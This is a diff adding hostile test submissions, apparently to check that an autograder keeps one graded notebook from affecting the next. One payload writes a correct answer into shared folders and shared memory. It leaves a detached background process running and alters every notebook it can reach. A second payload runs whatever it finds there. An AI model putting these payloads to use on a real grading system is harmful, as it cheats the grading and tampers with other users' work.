@@ -248,3 +248,80 @@ def attention_scores(q, k):
 #: Graded after the attacks in the same batch: honest answers, wrong, right and half right.
 VICTIMS = {"zz_victim_unscaled": (UNSCALED, 0), "zz_victim_right": (RIGHT, 3),
            "zz_victim_half_right": (HALF_RIGHT, 2)}
+
+# -- one submission leaving something for the next ---------------------------------------------
+#: Where a kernel might leave something for the kernel graded after it: its home, the temporary
+#: folders, the folders around its notebook, and the fork server's two shared folders.
+DROP_POINTS = ("/tmp/answer.py", "/dev/shm/answer.py", "~/answer.py", "answer.py",
+               "../answer.py", "../../answer.py", "/course-work/answer.py",
+               "/course-run/answer.py")
+SHM_KEY = 0x5EED
+
+#: Graded first: writes a right answer everywhere it can, in a System V shared-memory segment
+#: too, and leaves a process behind that keeps doing so and marks every notebook it can find
+#: (the next submission's included) for two minutes. Its own answer is empty.
+PLANT = NOTHING + '''
+import ctypes, glob, json, os, time
+ANSWER = """
+def attention_scores(q, k):
+    return q @ np.swapaxes(k, -1, -2) / np.sqrt(q.shape[-1])
+"""
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+
+def plant():
+    done = []
+    for path in DROP_POINTS:
+        try:
+            with open(os.path.expanduser(path), "w") as handle:
+                handle.write(ANSWER)
+            done.append(path)
+        except OSError:
+            pass
+    segment = libc.shmget(SHM_KEY, 4096, 0o1666)
+    if segment >= 0:
+        address = libc.shmat(segment, None, 0)
+        ctypes.memmove(address, ANSWER.encode() + b"\\0", len(ANSWER) + 1)
+        done.append("shm")
+    return done
+
+def mark_notebooks():
+    for path in glob.glob("/course-work/**/*.ipynb", recursive=True) + \\
+            glob.glob("../../**/*.ipynb", recursive=True):
+        try:
+            notebook = json.load(open(path))
+            for cell in notebook["cells"]:
+                cell.setdefault("outputs", []).append(
+                    {"output_type": "stream", "name": "stdout", "text": "LEFT BEHIND\\n"})
+            json.dump(notebook, open(path, "w"))
+        except (OSError, ValueError, KeyError):
+            pass
+
+print("pid", os.getpid(), "planted:", plant())
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(1200):
+            plant()
+            mark_notebooks()
+            time.sleep(0.1)
+    os._exit(0)
+'''.replace("DROP_POINTS", repr(DROP_POINTS)).replace("SHM_KEY", str(SHM_KEY))
+
+#: Graded second, in the same slot: an empty answer that runs whatever it finds of PLANT's.
+PICK_UP = NOTHING + '''
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+found = []
+for path in DROP_POINTS:
+    path = os.path.expanduser(path)
+    if os.path.isfile(path):
+        exec(open(path).read())
+        found.append(path)
+segment = libc.shmget(SHM_KEY, 4096, 0)
+if segment >= 0:
+    exec(ctypes.string_at(libc.shmat(segment, None, 0)).decode())
+    found.append("shm")
+print("picked up:", found)
+'''.replace("DROP_POINTS", repr(DROP_POINTS)).replace("SHM_KEY", str(SHM_KEY))
